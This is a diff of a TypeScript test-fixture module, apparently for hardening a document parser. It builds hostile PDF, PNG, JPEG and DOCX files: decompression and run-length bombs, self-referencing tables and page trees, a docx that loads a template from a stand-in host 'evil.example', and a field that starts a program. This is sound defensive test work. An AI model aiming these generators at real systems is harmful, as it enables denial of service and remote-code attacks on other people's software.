@@ -1,6 +1,6 @@
 import { crc32, deflateRawSync, deflateSync } from 'node:zlib'
-import { packedStream, pdf } from './pdf.ts'
-import { png } from './picture.ts'
+import { packedStream, buildPdf } from './pdf.ts'
+import { buildPng } from './picture.ts'
 import { zip } from './zip.ts'
 
 const MEGABYTE = 1024 * 1024
@@ -9,25 +9,25 @@ const MEGABYTE = 1024 * 1024
 export type HostileFile = { is: string; filename: string; make: () => Buffer }
 
 export const HOSTILE_FILES: readonly HostileFile[] = [
-  { is: 'a PDF of overlapping streams', filename: 'a.pdf', make: () => overlappingStreams() },
-  { is: 'a PDF of streams without an end', filename: 'a.pdf', make: () => endlessStreams() },
+  { is: 'a PDF of overlapping streams', filename: 'a.pdf', make: () => buildOverlappingStreams() },
+  { is: 'a PDF of streams without an end', filename: 'a.pdf', make: () => buildEndlessStreams() },
   { is: 'a PDF of nested arrays', filename: 'a.pdf', make: () => nested('[', ']', 2_000_000) },
   { is: 'a PDF of nested dictionaries', filename: 'a.pdf', make: () => nested('<</A', '>>', 500_000) },
-  { is: 'a PDF whose table leads to itself', filename: 'a.pdf', make: () => tableLoop() },
-  { is: 'a PDF whose pages are their own parents', filename: 'a.pdf', make: () => pageLoop() },
-  { is: 'a PDF with an object stream of 200 MB', filename: 'a.pdf', make: () => objectStream(200 * MEGABYTE) },
+  { is: 'a PDF whose table leads to itself', filename: 'a.pdf', make: () => buildTableLoop() },
+  { is: 'a PDF whose pages are their own parents', filename: 'a.pdf', make: () => buildPageLoop() },
+  { is: 'a PDF with an object stream of 200 MB', filename: 'a.pdf', make: () => buildObjectStream(200 * MEGABYTE) },
   { is: 'a PDF of 400,000 objects', filename: 'a.pdf', make: () => manyObjects() },
   { is: 'a PDF with a run-length bomb', filename: 'a.pdf', make: () => runLengthBomb() },
-  { is: 'a PDF with a table of two billion rows', filename: 'a.pdf', make: () => longTable() },
-  { is: 'a picture of 480 MB', filename: 'a.png', make: () => deepPicture(7745) },
+  { is: 'a PDF with a table of two billion rows', filename: 'a.pdf', make: () => buildLongTable() },
+  { is: 'a picture of 480 MB', filename: 'a.png', make: () => buildDeepPicture(7745) },
   { is: 'a picture of a million pieces', filename: 'a.png', make: () => manyPieces() },
-  { is: 'a picture wider than it may be', filename: 'a.png', make: () => png(8, 8, { width: 30_000, height: 2 }) },
+  { is: 'a picture wider than it may be', filename: 'a.png', make: () => buildPng(8, 8, { width: 30_000, height: 2 }) },
   { is: 'a JPEG of stuffed bytes', filename: 'a.jpg', make: () => stuffedJpeg() },
   { is: 'a JPEG of fill bytes', filename: 'a.jpg', make: () => Buffer.alloc(19 * MEGABYTE, 0xff).fill(0xd8, 1, 2) },
-  { is: 'a letter that lies about its size', filename: 'a.docx', make: () => lyingLetter() },
-  { is: 'a letter whose parts overlap', filename: 'a.docx', make: () => overlappingParts() },
+  { is: 'a letter that lies about its size', filename: 'a.docx', make: () => buildLyingLetter() },
+  { is: 'a letter whose parts overlap', filename: 'a.docx', make: () => buildOverlappingParts() },
   { is: 'a letter of 65,000 parts', filename: 'a.docx', make: () => manyParts() },
-  { is: 'a letter with a frame from elsewhere', filename: 'a.docx', make: () => letterWith('frame') },
+  { is: 'a letter with a frame from elsewhere', filename: 'a.docx', make: () => buildLetterWith('frame') },
   {
     is: 'a letter with a field that starts a program',
     filename: 'a.docx',
@@ -38,40 +38,43 @@ export const HOSTILE_FILES: readonly HostileFile[] = [
 ]
 
 /** Many stream starts that share an end, which unpacks to `size` bytes and then has a wrong checksum. */
-export function overlappingStreams(heads = 5000, size = 127 * MEGABYTE): Buffer {
+export function buildOverlappingStreams(heads = 5000, size = 127 * MEGABYTE): Buffer {
   const last = deflateSync(Buffer.alloc(size), { level: 9 })
   last.writeUInt32BE(1, last.length - 4)
   const head = Buffer.concat([Buffer.from('stream\n'), Buffer.from([0x78, 0xda, 0x00, 9, 0x00, 0xf6, 0xff])])
   // each is a stored block that contains the next word `stream`, its line end and its header
   const heap = Buffer.concat([...Array.from({ length: heads }, () => head), Buffer.from('stream\n'), last])
-  return pdf({ objects: [Buffer.concat([Buffer.from('<< /Length 1 >>\n'), heap, Buffer.from('\nendstream')])] })
+  return buildPdf({ objects: [Buffer.concat([Buffer.from('<< /Length 1 >>\n'), heap, Buffer.from('\nendstream')])] })
 }
 
-function endlessStreams(): Buffer {
-  return pdf({ objects: [`<< /Length 1 >>\n${'stream\nx\u009c'.repeat(1_500_000)}`] })
+function buildEndlessStreams(): Buffer {
+  return buildPdf({ objects: [`<< /Length 1 >>\n${'stream\nx\u009c'.repeat(1_500_000)}`] })
 }
 
 function nested(open: string, close: string, depth: number): Buffer {
-  return pdf({ catalog: '/Deep 9 0 R', objects: [open.repeat(depth) + close.repeat(depth)] })
+  return buildPdf({ catalog: '/Deep 9 0 R', objects: [open.repeat(depth) + close.repeat(depth)] })
 }
 
-function tableLoop(): Buffer {
-  const plain = pdf().toString('latin1')
+function buildTableLoop(): Buffer {
+  const plain = buildPdf().toString('latin1')
   const start = /startxref\n(\d+)/.exec(plain)?.[1] ?? ''
-  return pdf({ trailer: `/Prev ${start}`, pages: 0 })
+  return buildPdf({ trailer: `/Prev ${start}`, pages: 0 })
 }
 
-function pageLoop(): Buffer {
-  return Buffer.from(pdf().toString('latin1').replace('/Kids [3 0 R] /Count 1 ', '/Kids [2 0 R] /Count 9 '), 'latin1')
+function buildPageLoop(): Buffer {
+  return Buffer.from(
+    buildPdf().toString('latin1').replace('/Kids [3 0 R] /Count 1 ', '/Kids [2 0 R] /Count 9 '),
+    'latin1',
+  )
 }
 
-function objectStream(size: number): Buffer {
-  return pdf({ objects: [packedStream('/Type /ObjStm /N 1 /First 4', Buffer.alloc(size))] })
+function buildObjectStream(size: number): Buffer {
+  return buildPdf({ objects: [packedStream('/Type /ObjStm /N 1 /First 4', Buffer.alloc(size))] })
 }
 
 function manyObjects(): Buffer {
   const rows = Array.from({ length: 400_000 }, (_, at) => `[${at}]`)
-  return pdf({ catalog: '/Many 9 0 R', objects: [`[${rows.join('')}]`] })
+  return buildPdf({ catalog: '/Many 9 0 R', objects: [`[${rows.join('')}]`] })
 }
 
 /** Run-length encoded, two bytes for 128: 10 MB unpack to 640 MB. */
@@ -87,23 +90,23 @@ export function runLengthBomb(): Buffer {
   ])
 }
 
-function longTable(): Buffer {
-  return Buffer.from(pdf().toString('latin1').replace('xref\n0 ', 'xref\n0 200000000'), 'latin1')
+function buildLongTable(): Buffer {
+  return Buffer.from(buildPdf().toString('latin1').replace('xref\n0 ', 'xref\n0 200000000'), 'latin1')
 }
 
 /**
  * 7,745 pixels squared: 466 kB that unpack to 480 MB, with 16 bits for each of four channels. `said`: the size in its
  * header.
  */
-export function deepPicture(side: number, said = side): Buffer {
-  const whole = png(8, 8)
+export function buildDeepPicture(side: number, said = side): Buffer {
+  const whole = buildPng(8, 8)
   const header = Buffer.from(whole.subarray(16, 29))
   header.writeUInt32BE(said, 0)
   header.writeUInt32BE(said, 4)
   header.writeUInt8(16, 8)
   header.writeUInt8(6, 9)
   const rows = deflateSync(Buffer.alloc((1 + side * 8) * side), { level: 9 })
-  return pngOf([
+  return getPng([
     ['IHDR', header],
     ['IDAT', rows],
     ['IEND', Buffer.alloc(0)],
@@ -111,15 +114,15 @@ export function deepPicture(side: number, said = side): Buffer {
 }
 
 function manyPieces(): Buffer {
-  const header = Buffer.from(png(8, 8).subarray(16, 29))
+  const header = Buffer.from(buildPng(8, 8).subarray(16, 29))
   const piece = chunk('IDAT', Buffer.alloc(0))
   const pieces = Buffer.alloc(piece.length * 1_000_000)
   for (let at = 0; at < pieces.length; at += piece.length) piece.copy(pieces, at)
-  return Buffer.concat([png(8, 8).subarray(0, 8), chunk('IHDR', header), pieces, chunk('IEND', Buffer.alloc(0))])
+  return Buffer.concat([buildPng(8, 8).subarray(0, 8), chunk('IHDR', header), pieces, chunk('IEND', Buffer.alloc(0))])
 }
 
-function pngOf(chunks: readonly [string, Buffer][]): Buffer {
-  return Buffer.concat([png(8, 8).subarray(0, 8), ...chunks.map(([name, data]) => chunk(name, data))])
+function getPng(chunks: readonly [string, Buffer][]): Buffer {
+  return Buffer.concat([buildPng(8, 8).subarray(0, 8), ...chunks.map(([name, data]) => chunk(name, data))])
 }
 
 function chunk(name: string, data: Buffer): Buffer {
@@ -145,12 +148,12 @@ const TYPES: [string, string] = ['[Content_Types].xml', '<Types/>']
 const TEXT: [string, string] = ['word/document.xml', '<w:document/>']
 
 /** A part whose directory entry claims 1,000 bytes. */
-export function lyingLetter(size = 300 * MEGABYTE): Buffer {
+export function buildLyingLetter(size = 300 * MEGABYTE): Buffer {
   return zip([TYPES, ['word/document.xml', deflateRawSync(Buffer.alloc(size), { level: 9 }), 1000]])
 }
 
 /** Compressed zeros that a thousand directory entries point to. */
-function overlappingParts(): Buffer {
+function buildOverlappingParts(): Buffer {
   const heap = deflateRawSync(Buffer.alloc(4 * MEGABYTE), { level: 9 })
   const one = zip([TYPES, TEXT, ['word/0000.xml', heap, 4 * MEGABYTE]])
   const end = one.length - 22
@@ -175,7 +178,7 @@ function manyParts(): Buffer {
 }
 
 /** A document with a relationship of this kind to another machine. */
-export function letterWith(type: string, target = 'https://evil.example/x.dotm'): Buffer {
+export function buildLetterWith(type: string, target = 'https://evil.example/x.dotm'): Buffer {
   return letterWithLinks(
     `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`,
   )
@@ -198,12 +201,12 @@ export function field(...code: readonly string[]): string {
 
 /** A document of one paragraph with these runs, in its text or another part. */
 export function letterWithText(runs: string, at = 'word/document.xml'): Buffer {
-  const text = deflateRawSync(letterText(runs))
-  const size = letterText(runs).length
+  const text = deflateRawSync(buildLetterText(runs))
+  const size = buildLetterText(runs).length
   return zip([TYPES, ...(at === TEXT[0] ? [] : [TEXT]), [at, text, size]])
 }
 
-export function letterText(runs: string): Buffer {
+export function buildLetterText(runs: string): Buffer {
   return Buffer.from(`<w:document xmlns:w="${WORDS}"><w:body><w:p>${runs}</w:p></w:body></w:document>`)
 }
 
